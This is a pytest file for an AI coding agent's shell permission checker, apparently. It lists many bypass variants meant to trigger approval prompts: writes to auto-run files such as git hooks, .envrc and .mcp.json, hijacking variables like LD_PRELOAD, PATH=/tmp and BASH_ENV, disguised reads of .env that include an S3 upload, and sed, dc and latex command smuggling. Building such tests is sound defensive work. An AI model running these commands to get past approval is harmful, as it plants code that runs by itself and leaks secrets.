"""Texts that programs are given to run, variables that decide what runs, and names that others choose.

Each class is made of its ways: who reads a text, how it is given, where a variable is set, who runs whom.
"""

from __future__ import annotations

import itertools
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.unit.permissions.test_policy import flow_with, in_mode, of_command
from tools.call.context import ToolContext
from tools.contract.limits import ApprovalMode
from tools.permissions.verdict import Verdict

pytestmark = pytest.mark.anyio

AUTO_RUN_FILES = [".envrc", ".mcp.json", ".git/hooks/pre-commit", ".husky/pre-commit"]

SHELL_TEXT = "cp sub/x {}"
TEXTS = {
    "sh": SHELL_TEXT,
    "bash": SHELL_TEXT,
    "bash -s -- a": SHELL_TEXT,
    "dash /dev/stdin": SHELL_TEXT,
    ". /dev/stdin": SHELL_TEXT,
    "source /dev/fd/0": SHELL_TEXT,
    "timeout 5 bash": SHELL_TEXT,
    "env A=b sh": SHELL_TEXT,
    "sudo sh": SHELL_TEXT,
    "bash -c 'python3 -'": "open('{}', 'w')",
    "python3 -": "Path('{}').write_text('x')",
    "python3": "open(f'{}', 'w')",
    "node": "fs.writeFileSync(`{}`, 'x')",
    "node -": 'fs.writeFileSync("{}", "x")',
    "perl": "open F, '>{}'",
    "ruby -": "File.write('{}', '')",
    "php": "file_put_contents('{}', '');",
    "mytool": "out={}",
    "./run.sh": "{}",
    "make -f -": "all:; touch {}",
    "make -sf /dev/stdin all": "all:; touch {}",
    "sed -n -f - sub/x": "w {}",
    "sed -nf- sub/x": "1w {}",
    "sed -n --file=- sub/x": "w {}",
    "sed -n --file /dev/stdin sub/x": "w {}",
    "awk -f - sub/x": '{{print > "{}"}}',
    "gawk --file=- sub/x": '{{print > "{}"}}',
    "sqlite3 x.db": ".output {}",
}
"""What reads its input as a program, with such a program."""


def given(program: str, text: str) -> Iterator[str]:
    """A program that is given a text to read, in every way that says the text."""
    quoted = shlex.quote(text)
    yield f"{program} <<'E'\n{text}\nE"
    yield f"{program} <<-E\n\t{text}\nE"
    yield f"{program} <<< {quoted}"
    yield f"echo {quoted} | {program}"
    yield f"printf '%s\\n' {quoted} | {program}"
    yield f"cat <<'E' | {program}\n{text}\nE"
    yield f"cat <<< {quoted} | tee x.txt | {program}"
    yield f"{{ echo a; echo {quoted}; }} | {program}"
    yield f"(echo {quoted}) | {{ {program}; }}"
    yield f"echo {quoted} | if true; then ls; {program}; fi"
    yield f"while {program}; do break; done <<< {quoted}"
    yield f"({program}) <<'E'\n{text}\nE"
    yield f'X={quoted}; echo "$X" | {program}'
    yield f"X={quoted}; {program} <<< $X"
    yield f"{program} <<E\n$(ls){text}\nE"
    yield f"{program} < <(echo {quoted})"


def padded(text: str, lines: int) -> str:
    """The same text with so many lines before it."""
    return "\n".join(f"a{number} = {number}" for number in range(lines)) + f"\n{text}"


FILLED = [
    'sh -c "cp sub/x {}"',
    'bash -c "true; cp sub/x {} && ls"',
    'timeout 5 bash -c "cp sub/x {}"',
    'eval "cp sub/x {}"',
    'env -S "cp sub/x {}"',
    'script -qc "cp sub/x {}" /dev/null',
    'find . -maxdepth 0 -exec sh -c "cp sub/x {}" \\;',
    'echo a | xargs -I% sh -c "cp sub/x {}"',
    'watch "cp sub/x {}"',
    'flock x.lock -c "cp sub/x {}"',
    'su me -c "cp sub/x {}"',
    'trap "cp sub/x {}" EXIT',
    'sh -c "sh -c \\"cp sub/x {}\\""',
    'sh -c "cp sub/x "{}',
    "sh -c 'cp sub/x '\"{}\"",
    'cd . && nice sh -ec "cp sub/x {}"',
    'echo "cp sub/x {}" | sh',
    'bash <<< "cp sub/x {}"',
    "bash <<E\ncp sub/x {}\nE",
]
"""Scripts with a variable in them, which the outer shell fills in."""

WHOLE = ['sh -c "{}"', 'eval "{}"', "sh -c {}", 'timeout 5 sh -c "{}"', 'echo "{}" | sh', "{}", "timeout 5 {}"]
"""Scripts that are a variable as a whole."""


def filled(path: str) -> Iterator[str]:
    """Scripts in which a variable stands for a path, or for a command with one."""
    settings = [f"f={path};", f"f={path} &&", f"export f={path};", f"a={path}; f=$a;", f"if true; then f={path}; fi;"]
    yield from (f"{before} {form.format('$f')}" for before in settings for form in FILLED)
    yield from (f"for f in a {path}; do {form.format('$f')}\ndone" for form in FILLED)
    folder, slash, name = path.rpartition("/")
    if slash:
        yield from (f"D={folder}; {form.format(f'$D/{name}')}" for form in FILLED)
    for form in WHOLE:
        yield f"f='cp sub/x {path}'; {form.format('$f')}"
        yield f'A=cp; f="$A sub/x {path}"; {form.format("$f")}'
    yield f"f='a; cp sub/x {path}'; sh -c \"echo $f\""
    yield f"f='g={path}'; sh -c \"$f; cp sub/x \\$g\""


COPIES = [
    "cp --parents {} ..",
    "cp -r --parents ./{} ..",
    "cp --par -t .. {}",
    "cp --parents {} ../build/..",
    "rsync -R {} ..",
    "rsync -a --relative ./{} ..",
    "rsync -aR x/./{} ..",
    "f={}; cp --parents $f ..",
    "for f in {}; do cp --parents $f ..; done",
    "tar -cf - {} | tar -xf - -C ..",
    "tar c {} | (cd .. && tar x)",
    "echo {} | cpio -pdm ..",
    "find . -type f | cpio -pdm ..",
    "echo {} | pax -rw ..",
]
"""Copies from the folder `evil` that keep the whole paths of what they copy."""

DECIDING = [
    "GIT_SSH_COMMAND",
    "PS4",
    "BASH_ENV",
    "GIT_CONFIG_COUNT",
    "GIT_CONFIG_KEY_0",
    "LD_PRELOAD",
    "PATH",
    "NODE_OPTIONS",
    "RUSTFLAGS",
    "MAKEFLAGS",
    "PYTEST_ADDOPTS",
    "PYTHONPATH",
    "EDITOR",
    "ANTHROPIC_BASE_URL",
    "CC",
]
SETTINGS = [
    "{}=/tmp/x ls",
    "{}=/tmp/x",
    "env {}=/tmp/x ls",
    "export {}=/tmp/x",
    "export {}",
    'export "{}=/tmp/x"',
    "export ''{}=/tmp/x",
    'export {}="$X"',
    "declare -x {}=/tmp/x",
    "declare {}+=/tmp/x",
    "typeset -gx {}=/tmp/x",
    "readonly {}=$(ls)",
    "declare -n v={}; v=/tmp/x",
    "printf -v {} %s /tmp/x",
    "printf -v{} x",
    "read {} <<< /tmp/x",
    "read -r a {} b < a.txt",
    "mapfile -t {} < a.txt",
    "readarray {} < a.txt",
    "getopts a {}",
    "for {} in a b; do ls; done",
    "a=1 b=2; export c {}=/tmp/x",
    "if true; then export {}=/tmp/x; fi",
    "timeout 5 env -u A {}=/tmp/x ls",
]
"""Where a variable is given a value."""

HARMLESS = [
    "PYTHONPATH=src",
    "PYTHONPATH=.",
    "PYTHONPATH=src:tests",
    'PYTHONPATH="$PWD/src"',
    'PYTHONPATH="src:$PYTHONPATH"',
    'PATH="$HOME/.local/bin:$PATH"',
    'PATH="$PATH:/usr/local/go/bin"',
    'PATH="$HOME/go/bin:$HOME/.cargo/bin:$PATH"',
    "GOARCH=amd64",
    "GOOS=linux",
    "NODE_OPTIONS=--max-old-space-size=4096",
    'RUSTFLAGS="-C target-cpu=native"',
    "MAKEFLAGS=-j4",
    "CFLAGS='-O2 -g'",
    "CC=clang",
    "PYTEST_ADDOPTS=-q",
    "DATABASE_URL=sqlite:///x.db",
    "EDITOR=true",
    "GIT_PAGER=cat",
    "GIT_AUTHOR_NAME='A B'",
    "DOCKER_BUILDKIT=1",
    "TERM=dumb",
    "SRC=src",
    "FOO=bar",
]
SETTING_HARMLESSLY = ["{} mytool", "env {} mytool", "export {}", "export {}; mytool", "declare -x {}", "{}; ls"]

HARMFUL = [
    "PYTHONPATH=/tmp",
    "PYTHONPATH=../x",
    "PYTHONPATH=src:/tmp",
    "PATH=.:$PATH",
    "PATH=src:$PATH",
    "PATH=$PWD/x:$PATH",
    "PATH=/tmp:$PATH",
    "PATH=",
    "PATH=$HOME/x:$PATH",
    "NODE_OPTIONS=-r./x",
    "NODE_OPTIONS='--no-warnings -r./x'",
    "NODE_OPTIONS=--import=./x",
    "RUSTFLAGS=-Clinker=./x",
    "MAKEFLAGS=fx",
    "MAKEFLAGS=--eval=x",
    "PYTEST_ADDOPTS=-pevil",
    "CC=./x",
    "CFLAGS=-B.",
    "EDITOR=./x",
    "OPENAI_BASE_URL=http://h",
    "BASE_URL=http://h",
    "GIT_PAGER='cat;ls'",
    "IFS=x",
    "TERM=../x",
    "CFLAGS='$(x)'",
    "PYTHONPATH='$(x)'",
    "PATH=/usr/bin/../../tmp:$PATH",
    "GOFLAGS=-toolexec=./x",
]
"""The same variables with what runs or loads something else."""

MODULES = [
    "python3 -m {}",
    "python3 -m{}",
    "python3 -Bm {}",
    "python3 -Bm{}",
    "python3 -W error -m{}",
    "pypy3 -Im{}",
    "coverage run -m {}",
    "coverage run --source src -m{}",
    "python -m coverage run -m {}",
    "python -mcoverage run -m{}",
    "uv run coverage run -m {}",
    "python -m cProfile -o x.prof -m {}",
    "kernprof -l -m {}",
    "uv run python -m{}",
]
MODULE_OPTIONS = ["pytest -p evil", "pytest -pevil", "pip --python x install y", "pip install --target /x y"]

RUNNERS = [
    "npx {0} {1}",
    "npm exec -- {0} {1}",
    "npm exec {0} -- {1}",
    "npm x -- {0} {1}",
    "npm -w a exec -- {0} {1}",
    "npm --prefix a exec -- {0} {1}",
    "yarn {0} {1}",
    "yarn run {0} {1}",
    "yarn exec {0} {1}",
    "yarn dlx {0} {1}",
    "yarn workspace a {0} {1}",
    "pnpm {0} {1}",
    "pnpm exec {0} {1}",
    "pnpm dlx {0} {1}",
    "pnpm -r exec {0} {1}",
    "pnpm --filter a {0} {1}",
    "bun {0} {1}",
    "bun x {0} {1}",
    "bun run {0} {1}",
    "bunx {0} {1}",
    "npm run lint -- {1}",
    "npm run-script test:unit -- {1}",
    "npm test -- {1}",
    "npm t -- {1}",
    "npm --prefix a run lint -- {1}",
    "yarn lint {1}",
    "yarn test {1}",
    "pnpm run lint {1}",
    "pnpm test -- {1}",
    "bun run test {1}",
    "uv run npx {0} {1}",
    "mise exec -- {0} {1}",
]
RUN = [
    ("eslint", "--rulesdir evil ."),
    ("jest", "--setupFiles ./x"),
    ("vitest", "--config evil.js"),
    ("mocha", "--require ./x"),
]

RUN_PLAINLY = [
    "npm exec -- eslint --fix src",
    "yarn eslint --fix src",
    "pnpm exec eslint src",
    "npm run lint -- --fix",
    "npm test -- --watch=false",
    'npm test -- -t "foo bar"',
    "npm run test -- -c jest.config.js",
    "yarn test --coverage",
    "npm run build -- --mode production",
    "pnpm test -- -u",
    "npm run test:unit -- src/a.test.ts --runInBand",
    "npm run dev -- --port 3000 --host",
    "npm run start -- -p 3001",
    "npm run build --workspace=packages/a",
    "npm run test -- --reporter=verbose",
    "yarn add -D typescript",
    "yarn install --frozen-lockfile",
    "pnpm -r build",
    "python3 -mpytest -q",
    "coverage run -m pytest -q",
    "coverage run --source=src -m pytest tests",
    "coverage run -m pytest && coverage report -m",
    "python3 -mpip install x",
    "python3 -mvenv .venv",
    "bun run test",
]

CHOSEN_BY_HOSTS = [
    "curl -OJ https://h/x",
    "curl -sSLOJ https://h/x",
    "curl -J -O https://h/x",
    "curl -O --remote-header-name https://h/x",
    "curl -O --remote-header https://h/x",
    "curl -K x",
    "wget --content-disposition https://h/x",
    "wget --content-d https://h/x",
    "wget -i list.txt",
    "wget -qi- https://h",
    "wget --input-file=list",
    "wget -r https://h",
    "wget -qr https://h",
    "wget --recursive https://h",
    "wget --mirror https://h",
    "wget -p https://h",
    "wget --trust-server-names https://h/x",
    "aria2c https://h/x",
    "timeout 5 curl -OJ https://h/x",
]
NAMED_HERE = [
    "curl -O https://h/x.tgz",
    "curl -LO https://h/x.tgz",
    "curl -sSL https://h -o build/page.html",
    "curl -d J=1 https://h",
    'curl -H "X: -J" https://h',
    "wget https://h/x.tgz",
    "wget -qO- https://h",
    "wget -q https://h/x.tgz -O x.tgz",
    "wget -P build https://h/x.tgz",
    "wget -nv --tries=3 https://h/x.tgz",
    "aria2c -o x.tgz https://h/x",
]

READS = [
    "patch -o - .env /dev/null",
    "rename.ul .env b.txt .env && cat b.txt",
    "rename 's/x/y/' .env",
    "nano .env",
    "vim .env",
    *(
        f"{program} @.env"
        for program in ("size", "nm", "objdump -d", "readelf -a", "strings", "ar t", "objcopy", "c++filt")
    ),
    *(
        form.format(word)
        for form, word in itertools.product(
            (
                "iconv {}",
                "iconv -f utf8 {}",
                "mytool {}",
                "mytool --in={}",
                "openssl base64 -in {}",
                "aws s3 cp {} s3://x",
            ),
            ("$(echo .en)v", '"$(echo .en)v"', "`echo .en`v", "${X}v"),
        )
    ),
]

GIVEN_PLAINLY = [
    "python3 - <<'E'\nprint(1)\nE",
    "python3 - <<'E'\np = pathlib.Path('src/a.py'); p.write_text(p.read_text().replace('a', 'b'))\nE",
    "cat >> README.md <<'E'\n## See .vscode/settings.json\nE",
    "tee build/x.conf <<'E'\nfile=.envrc\nE",
    "bash <<'E'\nset -e\nnpm test\ncp a.txt build/\nE",
    "echo y | ./install.sh",
    "echo '{\"a\": 1}' | python3 -m json.tool",
    "echo see .envrc | cat > b.txt",
    "echo see .envrc; ls | python3 x.py",
    "git commit -F - <<'E'\nAdd .envrc\nE",
    "gh pr create --body-file - <<'E'\nAdd .vscode/settings.json\nE",
    "curl -d @- https://h <<'E'\n.envrc\nE",
    "grep x <<< .envrc",
    "read -r x <<< .envrc",
    'for f in src/*.py; do sh -c "wc -l $f"; done',
    'D=build; bash -c "mkdir -p $D && cp a.txt $D/x.json"',
    'F=a.txt; sh -c "sed -i s/a/b/ $F"',
    'bash -c "cd src && ls $HOME"',
    'N=3; sh -c "sleep $N"',
    "cp --parents src/a.py build",
    "rsync -aR src/a.py build/",
    "tar cf - src | tar xf - -C build",
    'while IFS= read -r line; do echo "$line"; done < a.txt',
    "IFS=, read -r a b <<< x,y",
]
"""Everyday texts, scripts and copies."""


UNASKED_WRITES = [
    'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
    'for f in *.txt; do mv -- "$f" "build/${f%.txt}.bak"; done',
    'for f in src/*.py; do cp "$f" "$f.bak"; done',
    'DATE=$(date +%F); mkdir -p build/$DATE; cp a.txt "build/$DATE/"',
    "jq .x package.json > tmp.$$.json && mv tmp.$$.json package.json",
]
"""Everyday names of which a part is a name with a star, a number or a date."""

STILL_ASKED = [
    'for f in *.txt; do mv "$f" "${f%.txt}.toml"; done',
    'for f in *.txt; do mv "$f" "${f%.txt}"; done',
    'for f in *.txt; do mv "$f" "${f%.txt}.yml"; done',
    'for f in *.txt; do mv "$f" ".husky/${f%.txt}.md"; done',
    'for f in .*.txt; do mv "$f" "${f%.txt}.md"; done',
    'for f in x*.txt; do mv "$f" "${f#x}"; done',
    'for f in *.txt; do mv "$f" "${f%.txt}/pre-commit"; done',
    'for f in *.txt; do mv "$f" "link-${f%.txt}.md"; done',
    'for f in *; do mv "$f" "${f%.txt}.md"; cd .git/hooks; done',
    'shopt -s dotglob; for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
    'DATE=$(date +%F); cp a.txt ".husky/$DATE"',
    "cp a.txt .npm$(date +rc)",
    'D=$(date +%F); D=.husky; cp a.txt "$D/x"',
    "D=$(date +hooks); cp a.txt .git/$D/pre-commit",
    "cp a.txt .np$$mrc",
    'cp a.txt "build/$(date +%F)$(ls)"',
    'cp a.txt "$(date +%F)/../.npmrc"',
]
"""The same forms with what may be an auto-run file."""

ALLOWED = ["sed", "jq", "mv", "cp", "docker", "make", "find", "tar"]
UNASKED_BY_RULES = [
    "for f in src/*.py; do sed -i 's/a/b/' \"$f\"; done",
    "F=src/a.py; sed -i 's/x/y/' $F",
    'sed -i "s|foo|$PWD|" a.txt',
    'V=1.2.3; sed -i "s/0.1.0/$V/" a.txt',
    "docker compose logs -f --tail=100 web",
    'docker run --rm -it -v "$PWD":/app -w /app node:20 npm test',
    'tar -czf "backup-$(date +%F).tar.gz" src',
    'for f in src/*.py; do cp "$f" "$f.bak"; done',
    'make test ARGS="-k foo"',
    "sleep 1",
    "read -r f",
    "history",
    "mktemp",
    "mktemp -d",
]
"""Everyday commands of programs that rules allow, or that change nothing."""

ASKED_DESPITE_RULES = [
    "V='x/e;s/y'; sed -i \"s/a/$V/\" a.txt",
    "V='w .npmrc'; sed -n \"$V\" a.txt",
    "for f in --expression=1e x; do sed -n 1p $f; done",
    'sed -i "s/a/$X/" a.txt',
    "docker compose -f ../x.yml logs",
    "docker compose exec --privileged x y",
    'docker run -v "$HOME":/app x',
    'docker run -v "$PWD/..":/app x',
    'make test ARGS="-k foo --pdbcls=x:y"',
    "make test ARGS=-pevil",
    'make test ARGS="$(x)"',
    "read PATH",
    'read -r "$x"',
    "history -w a.txt",
    "mktemp -p . x.XXX",
]
"""The same programs with what runs or writes something else."""

RUNNING = [
    "openssl engine -t dynamic",
    "dc -e '!ls'",
    "dc -f x",
    "rpm --eval '%(ls)'",
    "rpm -E '%(ls)'",
    "gnuplot -e 'system(1)'",
    "latex '\\\\immediate\\\\write18{ls}'",
    "pdftex '\\\\input x'",
]
AUTO_RUN = [
    "lefthook.toml",
    "lefthook.json",
    ".lefthook.toml",
    ".lefthook.json",
    "lefthook-local.toml",
    ".lefthook-local.json",
    ".mise/config.toml",
    "mise/config.toml",
    "opencode.json",
    ".aider.conf.yml",
    ".kilocode/mcp.json",
]


@pytest.fixture
def project(root: Path) -> Path:
    """A folder with a secret, a repository, and copies of auto-run files."""
    names = ("a.txt", "b.txt", "src/a.py", "sub/x", "build/z", ".git/hooks/x.sample")
    for name in (*names, *(f"evil/{path}" for path in AUTO_RUN_FILES)):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("x\n")
    (root / ".env").write_text("KEY=x\n")
    return root


async def verdicts(context: ToolContext, commands: list[str], mode: ApprovalMode, **lists: list[str]) -> set[str]:
    """The commands that run unasked."""
    flow, client = flow_with(**lists), in_mode(context, mode)
    return {each for each in commands if (await of_command(flow, client, each)).verdict is Verdict.ALLOW}


@pytest.mark.requirement("policy.auto_run.commands")
@pytest.mark.usefixtures("project")
@pytest.mark.parametrize("program", TEXTS)
async def test_a_text_that_a_program_is_given_to_run_is_searched_for_names(context: ToolContext, program: str) -> None:
    texts = [TEXTS[program].format(path) for path in AUTO_RUN_FILES]
    commands = [command for text in texts for command in given(program, text)]
    # One shell has every line looked at, which takes long, for all shells.
    lines = 30 if TEXTS[program] == SHELL_TEXT and program != "sh" else 300
    commands.append(f"{program} <<'E'\n{padded(texts[0], lines)}\nE")
    assert await verdicts(context, commands, ApprovalMode.YOLO) == set()


@pytest.mark.requirement("policy.auto_run.commands")
@pytest.mark.usefixtures("project")
@pytest.mark.parametrize("path", AUTO_RUN_FILES)
async def test_a_script_is_read_with_what_its_variables_hold(context: ToolContext, path: str) -> None:
    assert await verdicts(context, list(filled(path)), ApprovalMode.YOLO) == set()


@pytest.mark.requirement("policy.auto_run.commands")
@pytest.mark.usefixtures("project")
@pytest.mark.parametrize("path", [path for path in AUTO_RUN_FILES if "/" in path])
async def test_a_copy_that_keeps_whole_paths_is_asked_about(context: ToolContext, path: str) -> None:
    commands = [f"cd evil && {form.format(path)}" for form in COPIES]
    assert await verdicts(context, commands, ApprovalMode.YOLO) == set()


@pytest.mark.requirement("policy.auto_run.commands")
@pytest.mark.usefixtures("project")
async def test_what_another_host_names_is_asked_about(context: ToolContext) -> None:
    assert await verdicts(context, CHOSEN_BY_HOSTS, ApprovalMode.YOLO) == set()


@pytest.mark.requirement("policy.auto_run.commands")
@pytest.mark.usefixtures("project")
async def test_everyday_texts_and_downloads_run_unasked_where_questions_are_off(context: ToolContext) -> None:
    commands = [*GIVEN_PLAINLY, *NAMED_HERE]
    assert set(commands) - await verdicts(context, commands, ApprovalMode.YOLO) == set()


@pytest.mark.requirement("shell.analysis.wrappers")
@pytest.mark.usefixtures("project")
@pytest.mark.parametrize("setting", SETTINGS)
async def test_a_variable_that_decides_what_runs_is_asked_about_wherever_it_is_set(
    context: ToolContext, setting: str
) -> None:
    commands = [setting.format(name) for name in DECIDING]
    allowed = await verdicts(context, commands, ApprovalMode.DEFAULT, permissions_allow=["Bash"])
    # To export what the environment holds anyway changes nothing.
    assert allowed == (set(commands) if setting == "export {}" else set())


@pytest.mark.requirement("shell.analysis.wrappers")
@pytest.mark.usefixtures("project")
async def test_a_value_that_runs_something_else_is_asked_about(context: ToolContext) -> None:
    commands = [setting.format(value) for setting in SETTING_HARMLESSLY for value in HARMFUL]
    assert await verdicts(context, commands, ApprovalMode.DEFAULT, permissions_allow=["Bash"]) == set()


@pytest.mark.requirement("options.named")
@pytest.mark.usefixtures("project")
async def test_a_harmless_value_is_free_wherever_it_is_set(context: ToolContext) -> None:
    commands = [setting.format(value) for setting in SETTING_HARMLESSLY for value in HARMLESS]
    allowed = await verdicts(context, commands, ApprovalMode.DEFAULT, permissions_allow=["Bash"])
    assert set(commands) - allowed == set()


@pytest.mark.requirement("options.asked")
@pytest.mark.usefixtures("project")
async def test_options_of_what_another_program_runs_are_asked_about(context: ToolContext) -> None:
    commands = [form.format(options) for form in MODULES for options in MODULE_OPTIONS]
    commands += [form.format(*run) for form in RUNNERS for run in RUN]
    assert await verdicts(context, commands, ApprovalMode.DEFAULT, permissions_allow=["Bash"]) == set()


@pytest.mark.requirement("options.named")
@pytest.mark.usefixtures("project")
async def test_everyday_options_of_what_another_program_runs_are_not_asked_about(context: ToolContext) -> None:
    allowed = await verdicts(context, RUN_PLAINLY, ApprovalMode.DEFAULT, permissions_allow=["Bash"])
    assert set(RUN_PLAINLY) - allowed == set()


@pytest.mark.requirement("rules.hidden_reads")
async def test_what_a_program_may_read_by_any_of_its_words_is_asked_about(project: Path, context: ToolContext) -> None:
    assert await verdicts(context, READS, ApprovalMode.YOLO, permissions_deny=["Read(.env)"]) == set()
    (project / ".qwenignore").write_text(".env\n")
    assert await verdicts(context, READS, ApprovalMode.DEFAULT, permissions_allow=["Bash"]) == set()


@pytest.mark.requirement("policy.auto_run.commands")
@pytest.mark.usefixtures("project")
async def test_a_part_of_a_name_that_can_be_no_auto_run_file_is_not_asked_about(
    context: ToolContext,
) -> None:
    assert set(UNASKED_WRITES) - await verdicts(context, UNASKED_WRITES, ApprovalMode.YOLO) == set()
    assert await verdicts(context, STILL_ASKED, ApprovalMode.YOLO) == set()


@pytest.mark.requirement("options.named")
@pytest.mark.usefixtures("project")
async def test_everyday_commands_of_allowed_programs_run_unasked(context: ToolContext) -> None:
    rules = [f"Bash({program} *)" for program in ALLOWED]
    allowed = await verdicts(context, UNASKED_BY_RULES, ApprovalMode.DEFAULT, permissions_allow=rules)
    assert set(UNASKED_BY_RULES) - allowed == set()
    assert await verdicts(context, ASKED_DESPITE_RULES, ApprovalMode.DEFAULT, permissions_allow=rules) == set()


@pytest.mark.requirement("options.asked")
@pytest.mark.usefixtures("project")
async def test_programs_that_run_what_their_words_say_are_asked_about(context: ToolContext) -> None:
    assert await verdicts(context, RUNNING, ApprovalMode.DEFAULT, permissions_allow=["Bash"]) == set()


@pytest.mark.requirement("policy.auto_run")
@pytest.mark.usefixtures("project")
async def test_files_beside_those_that_run_by_themselves_are_asked_about(context: ToolContext) -> None:
    commands = [form.format(path) for path in AUTO_RUN for form in ("cp sub/x {}", "echo x > {}", "mytool {}")]
    assert await verdicts(context, commands, ApprovalMode.YOLO) == set()
